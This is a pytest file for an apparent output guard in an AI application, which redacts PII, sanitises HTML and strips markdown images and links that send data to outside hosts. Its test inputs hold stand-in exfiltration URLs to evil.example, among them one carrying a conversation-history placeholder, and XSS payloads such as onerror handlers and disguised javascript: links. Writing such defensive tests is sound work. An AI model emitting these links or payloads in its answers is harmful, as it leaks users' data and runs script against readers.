"""Output guard: exfiltration links neutralised, HTML sanitised, the whole pass over an answer."""

from __future__ import annotations

import pytest

from app.guards.detector import Guard
from app.guards.output import OutputGuard, neutralise_links, sanitize_html, url_is_safe

ALLOWED = ["docs.example.com"]


class TestNeutraliseLinks:
    def test_external_image_with_data_is_replaced(self) -> None:
        text, found = neutralise_links("Done ![x](https://evil.example/p.png?q=c2VjcmV0) [1]", ALLOWED)
        assert text == "Done [image removed: evil.example] [1]"
        assert found == [{"kind": "image", "url": "https://evil.example/p.png?q=c2VjcmV0", "host": "evil.example"}]

    def test_any_external_image_goes_but_allowlisted_and_relative_stay(self) -> None:
        text, _ = neutralise_links(
            "![a](https://tracker.example/a.png) ![b](https://cdn.docs.example.com/b.png) ![c](/static/c.png)", ALLOWED
        )
        assert text.startswith("[image removed: tracker.example]") and "cdn.docs.example.com" in text
        assert "![c](/static/c.png)" in text

    def test_links_carrying_data_to_other_hosts(self) -> None:
        text, found = neutralise_links(
            "[docs](https://docs.example.com/a?x=1) [wiki](https://en.wikipedia.org/wiki/Foo_(bar)) "
            "[click](https://evil.example/c?session=abc)",
            ALLOWED,
        )
        assert "[docs](https://docs.example.com/a?x=1)" in text and "[wiki](" in text
        assert "click [link removed: evil.example]" in text and len(found) == 1

    @pytest.mark.parametrize(
        "text",
        [
            "[x](javascript:alert(1))",
            "<https://evil.example/?q=data>",
            "[ref]: https://evil.example/?q=abc",
            '<img src="https://evil.example/a.png?x=1">',
            "<img src=x onerror=alert(1)>",
        ],
    )
    def test_other_channels(self, text: str) -> None:
        out, found = neutralise_links(text, ALLOWED)
        assert len(found) == 1 and "removed" in out and "evil" not in out.replace("removed: evil", "")

    def test_citations_and_plain_text_untouched(self) -> None:
        text = "Employees get 25 days [1][2]. See https://evil.example/?q=1 for more."
        assert neutralise_links(text, ALLOWED) == (text, [])

    def test_url_is_safe(self) -> None:
        assert url_is_safe("https://docs.example.com/x", ALLOWED) and url_is_safe("/local", ALLOWED)
        assert not url_is_safe("java\tscript:alert(1)") and not url_is_safe("https://docs.example.com.evil.io/")


class TestSanitizeHtml:
    def test_scripts_and_styles_go_with_their_content(self) -> None:
        out = sanitize_html("<p>Hi<script>alert(1)</script><style>p{}</style></p><iframe src=x>in</iframe>")
        assert out == "<p>Hi</p>"

    def test_event_handlers_and_unknown_attributes_go(self) -> None:
        out = sanitize_html('<p onclick="steal()" style="x">a</p><img src=x onerror=alert(1)><b onmouseover=x>b</b>')
        assert out == "<p>a</p><b>b</b>"

    @pytest.mark.parametrize(
        "href", ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)", "data:text/html,x"]
    )
    def test_script_urls_are_dropped(self, href: str) -> None:
        assert sanitize_html(f'<a href="{href}">x</a>') == "<a>x</a>"

    def test_safe_links_kept_with_rel(self) -> None:
        out = sanitize_html('<a href="https://docs.example.com/?a=1&b=2" title="t">x</a>')
        assert (
            out == '<a href="https://docs.example.com/?a=1&amp;b=2" title="t" rel="nofollow noopener noreferrer">x</a>'
        )

    def test_text_is_escaped_and_comments_dropped(self) -> None:
        assert sanitize_html("1 < 2 &amp; <!-- secret --><unknown>3 > 2</unknown>") == "1 &lt; 2 &amp; 3 &gt; 2"


class TestOutputGuard:
    def test_full_pass(self, guard: Guard) -> None:
        og = OutputGuard(guard, allowed_hosts=ALLOWED)
        out = og.run("Contact jane@corp.example or 13812345678. ![t](https://evil.example/t.png?d={history})")
        assert out.text == "Contact [REDACTED:email] or [REDACTED:phone]. [image removed: evil.example]"
        assert [r["kind"] for r in out.redactions] == ["email", "phone"] and len(out.neutralised) == 1
        assert out.check is not None and "exfiltration" in out.check.categories

    def test_html_mode_and_no_guard(self) -> None:
        out = OutputGuard(pii_kinds=(), html=True).run("<b>ok</b><script>x()</script> a@b.example")
        assert out.text == "<b>ok</b> a@b.example" and out.check is None and out.redactions == []

    def test_invalid_pii_kind(self) -> None:
        with pytest.raises(ValueError, match="unknown PII kinds"):
            OutputGuard(pii_kinds=["email", "dna"])
